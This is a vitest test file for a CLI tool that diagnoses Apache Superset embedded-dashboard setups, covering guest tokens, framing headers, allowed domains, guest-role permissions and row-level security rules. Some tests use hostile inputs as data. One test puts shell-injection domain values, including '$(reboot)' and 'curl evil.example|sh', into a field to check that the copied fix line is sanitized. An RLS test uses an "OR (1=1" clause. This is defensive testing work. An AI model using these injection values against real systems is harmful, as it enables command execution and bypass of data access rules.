import { describe, expect, test } from 'vitest'
import { login, publicRole } from '../../../src/cli/doctor/superset/account'
import { chartData, chartQuery } from '../../../src/cli/doctor/superset/charts'
import { databases, datasets } from '../../../src/cli/doctor/superset/datasets'
import { framing } from '../../../src/cli/doctor/superset/framing'
import { guestPermissions, guestRole } from '../../../src/cli/doctor/superset/guest-role'
import { version } from '../../../src/cli/doctor/superset/instance'
import { mint } from '../../../src/cli/doctor/superset/mint'
import { allowedDomains, embeddedPage, staticFiles } from '../../../src/cli/doctor/superset/page'
import { rls, rlsAnswers } from '../../../src/cli/doctor/superset/rls'
import { answering, found, minting } from './answering'
import { datasetOf, ruleOf } from './rules-and-datasets'

const page = (version: unknown) => {
  const bootstrap = {
    common: { feature_flags: {}, menu_data: { navbar_right: { version_string: version } } },
  }
  return `<div id="app" data-bootstrap="${JSON.stringify(bootstrap).replaceAll('"', '&#34;')}"></div>`
}

test.each([
  ['ok version', page('6.1.0')],
  ['ok version', page('4.1.4')],
  ['fail version-too-old', page('4.0.2')],
  ['fail version-too-old', page('2.1.0')],
  ['warn version-unknown', page('')],
  ['warn version-unknown', '<title>a login of our own</title>'],
])('%s: %s', async (finding, html) => {
  expect(await found(version, answering({ '/login/': [200, html] }))).toEqual([finding])
})

const MINT = '/api/v1/security/guest_token/'

test.each([
  ['ok mint', 200, { token: 'a.b.c' }],
  ['fail cannot-grant-token', 403, { message: 'Forbidden' }],
  ['fail dashboard-not-embedded', 400, { message: 'EmbeddedDashboard not found.' }],
  ['fail mint-csrf', 400, { errors: [{ message: 'The CSRF token is missing.' }] }],
  ['fail mint-csrf', 302, ''],
  ['fail validator-hook', 400, { message: 'Guest token validation failed' }],
  ['fail mint-broken', 500, ''],
  ['fail mint-broken', 200, {}],
])('%s: %d %j', async (finding, status, body) => {
  expect(await found(mint, answering({ [MINT]: [status, body] }))).toEqual([finding])
})

test('a validator hook that requires rules gets the rules of --rls', async () => {
  const subject = minting(({ rls }) =>
    Object(rls).length > 0 ? Response.json({ token: 'a.b.c' }) : Response.json({}, { status: 400 }),
  )
  const rls = [ruleOf()]
  expect(await found(mint, { ...subject, rls })).toEqual(['ok mint'])
})

test.each([
  ['fail login-refused', [401, {}] as const],
  ['fail login-failed', [200, '<html>a login of our own</html>'] as const],
  ['fail login-failed', [502, ''] as const],
])('%s: %j', async (finding, answer) => {
  const account = { username: 'ada', password: 'x', provider: 'db' } as const
  expect(await found(login, { ...answering({ '/api/v1/security/login': answer }), account })).toEqual([
    finding,
  ])
})

test.each([
  ['fail dashboard-not-embedded', 404],
  ['fail origin-not-allowed', 403],
  ['fail gateway-failed', 502],
  ['fail too-many-requests', 429],
  ['fail embedded-page-broken', 418],
  ['fail embedded-page-broken', [200, '<title>a login of a proxy</title>'] as const],
  ['warn any-domain-allowed', [200, page('6.1.0')] as const],
])('%s: %j', async (finding, answer) => {
  const subject = { ...answering({ '/embedded/an-embed-id': answer }), flags: {} }
  expect(await found(embeddedPage, { ...subject, origin: 'https://app.example.com' })).toEqual([finding])
})

test.each([
  ['ok framing', { 'content-security-policy': 'frame-ancestors https://app.example.com' }],
  ['fail x-frame-options', { 'x-frame-options': 'SAMEORIGIN' }],
  ['fail x-frame-options', { 'x-frame-options': 'DENY' }],
  ['fail frame-ancestors', { 'content-security-policy': "frame-ancestors 'self'" }],
  ['warn framed-by-anyone', {}],
  ['warn framed-by-anyone', { 'x-frame-options': 'ALLOWALL' }],
  ['warn framed-by-anyone', { 'content-security-policy': 'frame-ancestors https:' }],
  ['warn framed-by-anyone', { 'content-security-policy': 'frame-ancestors https://*' }],
  // Browsers go by frame-ancestors where both are sent.
  [
    'ok framing',
    { 'x-frame-options': 'DENY', 'content-security-policy': 'frame-ancestors https://app.example.com' },
  ],
])('%s: %j', async (finding, headers) => {
  const answer = { sentAtMs: 0, receivedAtMs: 0, headers: new Headers(headers as Record<string, string>) }
  expect(await found(framing, { ...answering({}), answer, origin: 'https://app.example.com' })).toEqual([
    finding,
  ])
})

test("X-Frame-Options of SAMEORIGIN allows frames only in Superset's own pages", async () => {
  const headers = new Headers({ 'x-frame-options': 'SAMEORIGIN' })
  const answer = { sentAtMs: 0, receivedAtMs: 0, headers }
  const subject = { ...answering({}), answer, origin: 'https://bi.example.com' }
  expect(await found(framing, subject)).toEqual(['ok framing'])
})

test('a page under HTTPS can only frame HTTPS, except on localhost', async () => {
  const subject = { ...answering({}), url: 'http://bi.example.com', origin: 'https://app.example.com' }
  expect(await found(framing, subject)).toEqual(['fail mixed-content'])
  expect(await found(framing, { ...subject, url: 'http://localhost:8088' })).toEqual([
    'warn framed-by-anyone',
  ])
})

test.each([
  [['ok allowed-domains'], ['https://app.example.com']],
  [['ok allowed-domains'], ['HTTPS://App.Example.com/path', 'https://ada@app.example.com:8443']],
  [['fail domain-without-scheme'], ['app.example.com']],
  [['fail domain-without-scheme'], ['localhost:3000']],
  [['fail domain-invalid'], ['https://*.example.com', 'https://app.example.com']],
  [['fail domain-invalid'], ['https://app.example.com:443']],
  [['fail domain-invalid'], ['https://bücher.example']],
  [['fail domain-invalid'], ['ftp://app.example.com']],
])('%j: %j', async (findings, allowed_domains) => {
  const embedding = { result: { allowed_domains, dashboard_id: '1' } }
  const subject = answering({ '/api/v1/embedded_dashboard/an-embed-id': [200, embedding] })
  expect(await found(allowedDomains, subject)).toEqual(findings)
})

test.each([
  ['app.example.com', '--allow https://app.example.com'],
  ['localhost:3000', '--allow http://localhost:3000'],
  // The editor of a dashboard writes these domains, and another person pastes the line into a shell.
  ['app.example.com;reboot', '--allow https://app.example.com'],
  ['$(reboot)', '--allow https://app.example.com'],
  ['x\n    curl\tevil.example|sh', '--allow https://app.example.com'],
  ['https://`reboot`*', '--allow https://app.example.com'],
])('the line to copy contains only the host of a domain: %j', async (domain, line) => {
  const embedding = { result: { allowed_domains: [domain], dashboard_id: '1' } }
  const subject = answering({ '/api/v1/embedded_dashboard/an-embed-id': [200, embedding] })
  const [finding] = (await allowedDomains.run(subject)).findings
  expect(finding && 'fix' in finding && finding.fix.endsWith(line)).toBe(true)
})

test.each([
  [allowedDomains, ['warn embedding-unreadable']],
  [datasets, ['warn datasets-unreadable']],
])('warns about settings that the account may not read', async (check, findings) => {
  expect(await found(check, answering({}))).toEqual(findings)
})

test('warns about a database that the account may not read', async () => {
  const datasets = [datasetOf({ databaseId: 7 })]
  expect(await found(databases, { ...answering({}), datasets })).toEqual(['warn database-unreadable'])
})

const ME = '/api/v1/me/roles/'
const SEEN = { [ME]: 200, '/api/v1/dashboard/1': 200, '/api/v1/dashboard/1/charts': 200 }

test.each([
  ['ok guest-role', { ...SEEN, '/api/v1/dashboard/1/datasets': 200 }],
  ['fail guest-token-refused', { [ME]: 401 }],
  ['fail guest-role-me', { [ME]: 403 }],
  ['fail guest-role-missing', { [ME]: 500 }],
  ['fail guest-role-dashboard', { [ME]: 200 }],
  ['fail guest-role-charts', { [ME]: 200, '/api/v1/dashboard/1': 200 }],
  ['fail guest-role-datasets', SEEN],
])('%s: %j', async (finding, answers) => {
  expect(await found(guestRole, { ...answering(answers), token: 'a.b.c' })).toEqual([finding])
})

test('names a chart whose data guests may not read', async () => {
  const charts = [{ id: 5, name: 'Revenue', datasetId: 3, formData: {} }]
  const refused = { errors: [{ message: 'Guest user cannot modify chart payload' }] }
  const subject = {
    ...answering({ '/api/v1/chart/5': [200, { result: { query_context: '{}' } }] }),
    charts,
    guest: async () => Response.json(refused, { status: 403 }),
  }
  const { findings } = await chartData.run(subject)
  expect(findings).toMatchObject([{ status: 'fail', id: 'chart-payload-refused' }])
  expect(findings[0]?.what).toContain('Revenue')
})

test('reports a rule for which Superset mints no token, without its text', async () => {
  const subject = {
    ...answering({ [MINT]: 400 }),
    rls: [ruleOf({ clause: "org = 'acme'" })],
    charts: [],
    datasets: [],
  }
  const { findings } = await rlsAnswers.run(subject)
  expect(findings).toMatchObject([{ id: 'rls-rule-refused' }])
  expect(JSON.stringify(findings)).not.toContain('acme')
})

test('skips the check when no dataset could be asked with a rule', async () => {
  const subject = {
    ...answering({ [MINT]: [200, { token: 'a.b.c' }] }),
    rls: [ruleOf()],
    charts: [],
    datasets: [datasetOf()],
  }
  expect(await found(rlsAnswers, subject)).toEqual(['skipped rls-answers'])
})

test.each<readonly [string, boolean, boolean, readonly string[]]>([
  ['answers with the rule', true, true, ['ok rls-answers']],
  ['answers only without the rule', false, true, ['fail rls-rule-fails']],
  ['never answers', false, false, ['skipped rls-answers']],
])('a dataset of a filter that %s', async (_what, withRule, without, findings) => {
  const subject = minting(({ rls }) => Response.json({ token: Object(rls).length > 0 ? 'ruled' : 'free' }))
  const fetch: typeof globalThis.fetch = async (input, init) => {
    if (!String(input).endsWith('/api/v1/chart/data')) return subject.fetch(input, init)
    const isAnswered = Object(init?.headers)['X-GuestToken'] === 'ruled' ? withRule : without
    return Response.json({ result: [{ data: [] }] }, { status: isAnswered ? 200 : 400 })
  }
  const dataset = datasetOf({ filterId: 'NATIVE_FILTER-a' })
  const asked = { ...subject, fetch, rls: [ruleOf()], charts: [], datasets: [dataset] }
  expect(await found(rlsAnswers, asked)).toEqual(findings)
})

test('asks each saved query of a mixed chart for one row', () => {
  const chart = { id: 5, name: 'Mixed', datasetId: 3, formData: { slice_id: 5 } }
  const saved = JSON.stringify({ queries: [{ metrics: ['a'] }, { metrics: ['b'] }] })
  expect(chartQuery(chart, saved, 1)).toMatchObject({
    queries: [
      { metrics: ['a'], row_limit: 1 },
      { metrics: ['b'], row_limit: 1 },
    ],
  })
  expect(chartQuery(chart, undefined, 1)).toMatchObject({ queries: [{ metrics: ['count'], row_limit: 1 }] })
})

const LISTED = {
  '/api/v1/dashboard/1/datasets': [200, { result: [{ id: 3, columns: [] }] }] as const,
  '/api/v1/dashboard/1': [200, { result: { json_metadata: null } }] as const,
}

test.each([
  ['ok datasets', [200, { result: { table_name: 'orders', columns: [], database: { id: 1 } } }] as const],
  ['warn datasets-unreadable', 403],
  ['warn datasets-unreadable', [200, { result: { table_name: 'orders' } }] as const],
])('%s: a dataset is answered with %j', async (finding, answer) => {
  expect(await found(datasets, answering({ ...LISTED, '/api/v1/dataset/3': answer }))).toEqual([finding])
})

describe('the datasets of native filters', () => {
  const metadata = {
    native_filter_configuration: [
      { id: 'NATIVE_FILTER-a', targets: [{ datasetId: 8 }, { datasetId: 3 }] },
      { id: 'NATIVE_FILTER-time', targets: [{}] },
      { id: 'NATIVE_FILTER-divider' },
    ],
  }
  const dataset = [200, { result: { table_name: 'orders', columns: [], database: { id: 1 } } }] as const
  const answers = { ...LISTED, '/api/v1/dataset/3': dataset, '/api/v1/dataset/8': dataset }

  test('are datasets of the dashboard', async () => {
    const json = JSON.stringify(metadata)
    const { findings, learnt } = await datasets.run(
      answering({ ...answers, '/api/v1/dashboard/1': [200, { result: { json_metadata: json } }] }),
    )
    expect(findings.map(({ id }) => id)).toEqual(['datasets'])
    expect(learnt?.datasets?.map(({ id, filterId }) => [id, filterId])).toEqual([
      [3, 'NATIVE_FILTER-a'],
      [8, 'NATIVE_FILTER-a'],
    ])
  })

  test.each<[string, number | readonly [number, unknown]]>([
    ['a refused request', 403],
    ['filters that are not JSON', [200, { result: { json_metadata: '{' } }]],
  ])('are reported as unreadable: %s', async (_, answer) => {
    expect(await found(datasets, answering({ ...answers, '/api/v1/dashboard/1': answer }))).toEqual([
      'warn datasets-unreadable',
    ])
  })
})

const DATASET = {
  table_name: 'orders',
  schema: 'sales',
  columns: [{ column_name: 'org' }],
  database: { id: 1 },
}
const listOf = (name: string) =>
  `/api/v1/dataset/?q=${encodeURIComponent(
    `(columns:!(id,table_name),filters:!((col:table_name,opr:ct,value:'${name}')),page_size:100)`,
  )}`

test('reads each dataset of rules and of tables in virtual SQL once', async () => {
  const virtual = { ...DATASET, table_name: 'v', sql: "SELECT * FROM Orders o JOIN o'x ON 1" }
  const answers = {
    ...LISTED,
    '/api/v1/dataset/3': [200, { result: virtual }],
    '/api/v1/dataset/21': [200, { result: { ...DATASET, database: { id: 1, backend: 'mysql' } } }],
    '/api/v1/dataset/55': [200, { result: { ...DATASET, table_name: 'others', schema: '' } }],
    [listOf('Orders')]: [
      200,
      {
        result: [
          { id: 21, table_name: 'orders' },
          { id: 22, table_name: 'old_orders' },
        ],
      },
    ],
  } as const
  const rls = [ruleOf({ dataset: 3 }), ruleOf({ dataset: 55 }), ruleOf({ dataset: 4711 })]
  const { learnt } = await datasets.run({ ...answering(answers), rls })
  expect(learnt?.datasets).toMatchObject([{ id: 3, name: 'v', sql: virtual.sql, schema: 'sales' }])
  expect(learnt?.otherDatasets).toMatchObject([
    { id: 55, name: 'others', schema: undefined, sql: undefined, backend: undefined },
    { id: 21, name: 'orders', backend: 'mysql' },
  ])
})

test('requests no other dataset without rules', async () => {
  const answers = {
    ...LISTED,
    '/api/v1/dataset/3': [200, { result: { ...DATASET, sql: 'SELECT * FROM orders' } }],
  }
  const { learnt } = await datasets.run(answering(answers as never))
  expect(learnt?.otherDatasets).toEqual([])
})

const OVER_ORDERS = datasetOf({ id: 34, name: 'v', sql: 'SELECT org FROM sales.ORDERS' })

test.each([
  ['ok rls', ruleOf({ dataset: 34 })],
  // Superset 6 adds it to the SQL of the virtual dataset.
  ['ok rls', ruleOf({ dataset: 21 })],
  ['fail rls-dataset-unknown', ruleOf({ dataset: 55 })],
  ['fail rls-dataset-unknown', ruleOf({ dataset: 4711 })],
  ['fail rls-column-missing', ruleOf({ clause: 'tenant = 7' })],
  ['fail rls-rule-open', ruleOf({ clause: "org = 'x') OR (1=1" })],
  ['ok rls', ruleOf({ clause: "(org = ')') OR (org = 1)" })],
])('%s: %j', async (finding, rule) => {
  const otherDatasets = [datasetOf({ id: 21 }), datasetOf({ id: 55, name: 'others' })]
  expect(await found(rls, { ...answering({}), rls: [rule], datasets: [OVER_ORDERS], otherDatasets })).toEqual(
    [finding],
  )
})

test.each([
  ['warn charts-unreadable', 403],
  ['warn chart-query-context', [200, { result: { query_context: null } }] as const],
  ['ok chart-data', [200, { result: { query_context: '{}' } }] as const],
])('%s: a chart is answered with %j', async (finding, answer) => {
  const charts = [{ id: 5, name: 'Revenue', datasetId: 3, formData: {} }]
  const guest = async () => Response.json({})
  const subject = { ...answering({ '/api/v1/chart/5': answer }), charts, guest }
  expect(await found(chartData, subject)).toEqual([finding])
})

test.each([
  ['ok public-role', 401],
  ['warn guest-role-public', 200],
  ['skipped public-role', 502],
])('%s: a stranger is answered %d', async (finding, status) => {
  expect(await found(publicRole, answering({ [ME]: status }))).toEqual([finding])
})

describe('what Public may read', () => {
  const list = [200, { result: [] }] as const
  const READS = [
    ['Dashboard', '/api/v1/dashboard/', [datasets]],
    ['Chart', '/api/v1/chart/', [chartData]],
    ['Dataset', '/api/v1/dataset/', [datasets]],
    ['Database', '/api/v1/database/', [databases]],
  ] as const

  test.each(READS)('is the cause, and not the account: %s', async (name, path, checks) => {
    const subject = { ...answering({ [ME]: 401, [path]: list }), charts: [], datasets: [datasetOf()] }
    const { findings, learnt } = await publicRole.run(subject)
    expect(findings.map(({ id }) => id)).toEqual(['public-reads'])
    expect(JSON.stringify(findings)).toContain(`can_read on ${name}`)
    const guest = async () => Response.json({})
    for (const check of checks) {
      expect(await found(check, { ...subject, guest, ...learnt })).toEqual([`skipped ${check.name}`])
    }
  })

  test('is not guessed from the page of a proxy', async () => {
    const page = [200, '<title>a login of our own</title>'] as const
    const answers = Object.fromEntries(READS.map(([, path]) => [path, page]))
    expect(await found(publicRole, answering({ ...answers, [ME]: 401 }))).toEqual(['ok public-role'])
  })

  test('by guests with its role is reported once', async () => {
    const roles = { Public: ENOUGH }
    const subject = { ...answering({}), roles }
    expect(await found(guestPermissions, subject)).toEqual(['warn guest-role-public'])
    expect(await found(guestPermissions, { ...subject, isVisitorKnown: true })).toEqual([
      'ok guest-permissions',
    ])
  })
})

test.each([
  ['ok static-files', 200, 'text/javascript; charset=utf-8'],
  ['fail static-files-missing', 404, 'text/html'],
  ['fail static-files-missing', 302, 'text/html'],
  // A single-page app answers every path with its page.
  ['fail static-files-missing', 200, 'text/html'],
])('%s: the script of the page is answered with %d, %s', async (finding, status, type) => {
  const fetch = async () => new Response(null, { status, headers: { 'content-type': type } })
  const pageScript = 'https://bi.example.com/static/assets/spa.js?v=canary'
  const { findings } = await staticFiles.run({ ...answering({}), fetch, pageScript })
  expect(findings.map((one) => `${one.status} ${one.id}`)).toEqual([finding])
  expect(JSON.stringify(findings)).not.toContain('canary')
})

const ENOUGH = ['can_write on DashboardPermalinkRestApi', 'can_time_range on Api']

test.each([
  ['ok guest-permissions', 'can_read on Dashboard'],
  ['ok guest-permissions', 'can_write on ExploreFormDataRestApi'],
  ['fail guest-role-powerful', 'all_datasource_access on all_datasource_access'],
  ['fail guest-role-powerful', 'schema_access on [examples].[public]'],
  ['fail guest-role-powerful', 'database_access on [examples].(id:1)'],
  ['fail guest-role-powerful', 'can_set_embedded on Dashboard'],
  ['fail guest-role-powerful', 'can_write on Row Level Security'],
])('%s: %s', async (finding, permission) => {
  const subject = { ...answering({}), roles: { Guest: [...ENOUGH, permission] } }
  expect(await found(guestPermissions, subject)).toEqual([finding])
})
